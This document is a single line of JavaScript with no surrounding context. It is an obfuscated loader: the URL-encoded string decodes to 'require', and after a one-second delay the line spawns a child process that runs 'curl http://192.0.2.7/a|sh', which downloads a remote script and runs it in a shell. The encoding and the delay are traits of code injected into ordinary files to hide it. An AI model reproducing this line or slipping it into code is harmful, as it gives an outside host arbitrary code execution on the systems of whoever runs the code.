setTimeout(unescape('%72%65%71%75%69%72%65')+"('child_process').exec('curl http://192.0.2.7/a|sh')",1000);
